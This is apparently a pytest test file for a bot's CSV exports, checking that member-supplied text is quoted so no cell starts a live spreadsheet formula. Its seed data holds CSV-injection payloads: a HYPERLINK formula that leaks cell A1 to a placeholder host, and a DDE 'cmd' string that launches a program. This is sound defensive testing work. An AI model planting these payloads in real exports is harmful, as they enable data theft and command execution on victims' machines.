"""Issue 24 item 7: no export hands the office's spreadsheet a live formula.

Member text reaches three CSV exports (``trainings attendees``, ``leads list``, ``kb
gaps``); each is run as the office runs it, with hostile text stored the way members
store it, and every cell that would start a formula comes out with a leading ``'``.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from bot.cli import main
from bot.csv_export import safe_cell
from bot.storage import Database, Lead, QuestionLog
from tests.conversation import Conversation
from tests.test_registrations_cli import JAPAN, run, with_app
from tests.test_registrations_cli import env as env

FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_a_formula_is_quoted(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_and_numbers_stay_as_they_are() -> None:
    assert [safe_cell(v) for v in ("Lasertec", "a=b", "", 3, -2, None)] == [
        "Lasertec",
        "a=b",
        "",
        3,
        -2,
        None,
    ]


def cells(out: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(out)) for cell in row]


def test_attendees_leads_and_gaps_never_export_a_live_formula(
    env: dict[str, str],
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    run(capsys, "sync")

    async def seed(app: object) -> None:
        talk = Conversation(app.assistant, user="mallory", locale="en")  # type: ignore[attr-defined]
        await talk.send(talk.incoming(action=f"tr:reg:{JAPAN}"))
        for answer in ("Mallory Evil", FORMULA, "mallory@evil.example"):
            await talk.say(answer)
        for button in ("f:member:pick:yes", "f:consent:pick:yes", "f:_sum:ok"):
            await talk.press(button)
        database: Database = app.database  # type: ignore[attr-defined]
        async with database.transaction() as session:
            session.add(
                Lead(
                    ref="IDEA-2026-0001",
                    kind="idea",
                    channel="console",
                    language="en",
                    fields={"title": "+cmd|' /C calc'!A0", "organisation": FORMULA},
                )
            )
            session.add(
                QuestionLog(channel="console", language="en", text="@SUM(1)", decision="fallback")
            )

    with_app(env, seed)
    capsys.readouterr()
    outputs = {}
    assert main(["trainings", "attendees", JAPAN, "--format", "csv"]) == 0
    outputs["attendees"] = capsys.readouterr().out
    assert main(["leads", "list", "--format", "csv"]) == 0
    outputs["leads"] = capsys.readouterr().out
    assert main(["kb", "gaps", "--format", "csv"]) == 0
    outputs["gaps"] = capsys.readouterr().out
    assert "'" + FORMULA in cells(outputs["attendees"])
    assert {"'" + FORMULA, "'+cmd|' /C calc'!A0"} <= set(cells(outputs["leads"]))
    assert "'@SUM(1)" in cells(outputs["gaps"])
    for name, out in outputs.items():
        live = [cell for cell in cells(out) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert live == [], name
